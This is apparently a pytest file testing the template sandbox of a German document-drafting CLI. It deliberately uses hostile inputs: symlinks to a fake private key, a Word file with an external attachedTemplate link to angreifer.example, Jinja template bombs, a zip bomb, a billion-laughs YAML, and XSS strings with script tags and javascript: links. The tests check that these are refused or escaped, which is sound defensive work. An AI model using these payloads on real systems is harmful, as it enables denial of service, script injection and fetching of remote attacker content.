"""Issue 12, own templates: no file from outside the folder, no bomb, no endless render, escaped Markdown.

Every case runs `zieldsl draft` as a user would; a refused template leaves no output file.
"""

from __future__ import annotations

import io
import shutil
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from zieldsl.cli.main import main
from zieldsl.documents import sandbox

REPO = Path(__file__).resolve().parents[1]
LEER = REPO / "vereinbarungen" / "leer-2026.ziel"
TEMPLATES = REPO / "templates"
SECRET = "GEHEIMER-SCHLUESSEL-4711"


def draft(tmp_path: Path, folder: Path | None, output: str = "out.html", agreement: Path = LEER, *extra: str):
    target = tmp_path / output
    args = ["draft", str(agreement), "-o", str(target), *extra]
    if folder is not None:
        args += ["--template", str(folder)]
    return CliRunner().invoke(main, args), target


@pytest.fixture
def secret(tmp_path) -> Path:
    path = tmp_path / "ausserhalb" / "id_rsa"
    path.parent.mkdir()
    path.write_text(SECRET + "\n", encoding="utf-8")
    return path


# ---------------------------------------------------------------- item 4: links out of the folder

@pytest.mark.parametrize("linked, output", [("_stil.css", "out.html"), ("_kopf.md.j2", "out.md"),
                                            ("feststellung.md.j2", "out.md"), ("phrasen.yaml", "out.md"),
                                            ("feststellung.docx", "out.docx")])
def test_a_link_out_of_the_template_folder_is_refused(tmp_path, secret, linked, output):
    folder = tmp_path / "vorlagen"
    folder.mkdir()
    (folder / linked).symlink_to(secret)
    result, target = draft(tmp_path, folder, output)
    assert result.exit_code == 1, result.output
    assert f"fehler ZD514: Vorlage »{folder / linked}« ist ein Verweis aus dem Vorlagenordner hinaus" \
        in result.stderr
    assert SECRET not in result.output
    assert not target.exists()


def test_a_link_inside_the_folder_is_fine(tmp_path):
    folder = tmp_path / "vorlagen"
    folder.mkdir()
    shutil.copy(TEMPLATES / "_stil.css", folder / "echt.css")
    (folder / "_stil.css").symlink_to(folder / "echt.css")
    result, target = draft(tmp_path, folder)
    assert result.exit_code == 0, result.output
    assert target.exists()


def _docx_with_attached_template(path: Path) -> None:
    """The bundled Word template plus an external attachedTemplate link, as Word writes it."""
    with zipfile.ZipFile(TEMPLATES / "feststellung.docx") as source:
        entries = {info.filename: source.read(info) for info in source.infolist()}
    settings = entries["word/settings.xml"].decode()
    settings = settings.replace("<w:zoom", '<w:attachedTemplate r:id="rIdZiel99"/><w:zoom', 1)
    if 'xmlns:r=' not in settings.split(">", 2)[1]:
        settings = settings.replace("<w:settings ", '<w:settings xmlns:r="http://schemas.openxmlformats.org/'
                                                     'officeDocument/2006/relationships" ', 1)
    entries["word/settings.xml"] = settings.encode()
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdZiel99" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            'Target="file://angreifer.example/vorlage.dotm" TargetMode="External"/></Relationships>')
    entries["word/_rels/settings.xml.rels"] = rels.encode()
    with zipfile.ZipFile(path, "w") as target:
        for name, data in entries.items():
            target.writestr(name, data)


def test_a_word_templates_external_attached_template_is_dropped(tmp_path):
    folder = tmp_path / "vorlagen"
    folder.mkdir()
    _docx_with_attached_template(folder / "feststellung.docx")
    assert b"attachedTemplate" in zipfile.ZipFile(folder / "feststellung.docx").read("word/settings.xml")
    result, target = draft(tmp_path, folder, "out.docx")
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(target) as written:
        everything = b"".join(written.read(name) for name in written.namelist())
    assert b"attachedTemplate" not in everything
    assert b"angreifer.example" not in everything


# ---------------------------------------------------------------- item 5: bombs and endless templates

@pytest.mark.parametrize("expression", ["{{ 'a'|center(400000000) }}", "{{ lipsum(n=100000000) }}",
                                        "{{ '{:>400000000}'.format('x') }}", "{{ '%400000000s' % 'x' }}",
                                        "{{ 'a'|indent(400000000) }}", "{{ ('x' * 1000000).ljust(400000000) }}",
                                        "{{ 9 ** 999999 }}"])
def test_known_template_bombs_are_refused(tmp_path, expression):
    folder = tmp_path / "vorlagen"
    folder.mkdir()
    (folder / "feststellung.md.j2").write_text(f"# Entwurf\n\n{expression}\n", encoding="utf-8")
    result, target = draft(tmp_path, folder, "out.md")
    assert result.exit_code == 1, result.output
    assert "fehler ZD503" in result.stderr and "nicht erlaubt" in result.stderr
    assert not target.exists()


def test_nested_loops_hit_the_time_limit(tmp_path, monkeypatch):
    monkeypatch.setattr(sandbox, "MAX_RENDER_SECONDS", 1)
    folder = tmp_path / "vorlagen"
    folder.mkdir()
    (folder / "feststellung.md.j2").write_text(
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}\n", encoding="utf-8")
    result, target = draft(tmp_path, folder, "out.md")
    assert result.exit_code == 1, result.output
    assert ("fehler ZD512: Vorlage feststellung.md.j2: das Ausfüllen dauert länger als 1 Sekunden und wurde "
            "abgebrochen") in result.stderr
    assert not target.exists()


def test_nested_loops_in_a_word_template_hit_the_time_limit(tmp_path, monkeypatch):
    monkeypatch.setattr(sandbox, "MAX_RENDER_SECONDS", 1)
    folder = tmp_path / "vorlagen"
    folder.mkdir()
    with zipfile.ZipFile(TEMPLATES / "feststellung.docx") as source:
        entries = {info.filename: source.read(info) for info in source.infolist()}
    document = entries["word/document.xml"].decode()
    loop = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
    entries["word/document.xml"] = document.replace("<w:body>", f"<w:body><w:p><w:r><w:t>{loop}</w:t></w:r></w:p>",
                                                    1).encode()
    with zipfile.ZipFile(folder / "feststellung.docx", "w") as target:
        for name, data in entries.items():
            target.writestr(name, data)
    result, target = draft(tmp_path, folder, "out.docx")
    assert result.exit_code == 1, result.output
    assert "fehler ZD512" in result.stderr
    assert not target.exists()


def test_output_past_the_size_limit_is_not_written(tmp_path, monkeypatch):
    monkeypatch.setattr(sandbox, "MAX_OUTPUT_BYTES", 50_000)
    folder = tmp_path / "vorlagen"
    folder.mkdir()
    (folder / "feststellung.md.j2").write_text("{% for i in range(100000) %}Zeile {{ i }}\n{% endfor %}",
                                               encoding="utf-8")
    result, target = draft(tmp_path, folder, "out.md")
    assert result.exit_code == 1, result.output
    assert "fehler ZD513: Vorlage feststellung.md.j2: das Dokument würde größer als" in result.stderr
    assert not target.exists()


def test_a_zip_bomb_word_template_is_refused(tmp_path, monkeypatch):
    from zieldsl.documents import output

    monkeypatch.setattr(output, "MAX_DOCX_UNPACKED", 100_000)
    folder = tmp_path / "vorlagen"
    folder.mkdir()
    shutil.copy(TEMPLATES / "feststellung.docx", folder / "feststellung.docx")
    with zipfile.ZipFile(folder / "feststellung.docx", "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/nullen.bin", b"\0" * 1_000_000)
    result, target = draft(tmp_path, folder, "out.docx")
    assert result.exit_code == 1, result.output
    assert "fehler ZD507" in result.stderr and "Zip-Bombe" in result.stderr


def test_a_billion_laughs_phrase_file_is_refused_at_once(tmp_path):
    folder = tmp_path / "vorlagen"
    folder.mkdir()
    shutil.copy(REPO / "tests" / "bad_inputs" / "vorlagen" / "phrasen_milliarde_lacher" / "phrasen.yaml",
                folder / "phrasen.yaml")
    result, target = draft(tmp_path, folder, "out.md")
    assert result.exit_code == 1, result.output
    assert "fehler ZD509" in result.stderr
    assert not target.exists()


# ---------------------------------------------------------------- item 6: Markdown is escaped

HOSTILE_TITLE = 'Böse <script>alert(1)</script> [klick](javascript:alert(1)) <iframe src=x> `code` <!--'


def hostile_agreement(tmp_path: Path) -> Path:
    text = LEER.read_text(encoding="utf-8")
    text = text.replace('"Verbesserung der Integration in Erwerbstätigkeit"', '"' + HOSTILE_TITLE + '"', 1)
    text = text.replace('träger "Landkreis Leer"', 'träger "# Überschrift <!--"', 1)
    path = tmp_path / "leer-2026.ziel"
    path.write_text(text, encoding="utf-8")
    for suffix in (".daten.csv", ".nachweise.yaml"):
        evidence = (REPO / "vereinbarungen" / f"leer-2026{suffix}").read_text(encoding="utf-8")
        if suffix == ".nachweise.yaml":
            evidence = evidence.replace("Dienstanweisung Scan-Prozess",
                                        "'Dienstanweisung <img src=x onerror=alert(1)> [x](javascript:y)'", 1)
        (tmp_path / f"leer-2026{suffix}").write_text(evidence, encoding="utf-8")
    return path


@pytest.mark.parametrize("kind", ["feststellung", "zwischenbericht", "vereinbarung"])
def test_markdown_output_escapes_html_links_and_headings(tmp_path, kind):
    path = hostile_agreement(tmp_path)
    result, target = draft(tmp_path, None, f"{kind}.md", path, "--kind", kind)
    assert result.exit_code == 0, result.output
    text = target.read_text(encoding="utf-8")
    import re

    for raw in ("<script", "<iframe", "<img", "<!--", "\n# Überschrift"):
        assert raw not in text, raw
    assert not re.search(r"(?<!\\)\]\(javascript:", text)
    assert "&lt;script>alert(1)&lt;/script>" in text
    assert "\\[klick\\](javascript:alert(1))" in text


def test_markdown_escape_is_careful():
    escape = sandbox.markdown_escape
    assert escape("# Titel") == "\\# Titel"
    assert escape("a\n- b\n> c") == "a\n\\- b\n\\> c"
    assert escape("[x](y) `z` \\") == "\\[x\\](y) \\`z\\` \\\\"
    assert escape("5. Januar 2027") == "5. Januar 2027"
    assert sandbox.markdown_text("+2,1 % &lt; 0 &lt;script&gt; &#34;a&#34; &amp;") == '+2,1 % < 0 &lt;script> "a" &'
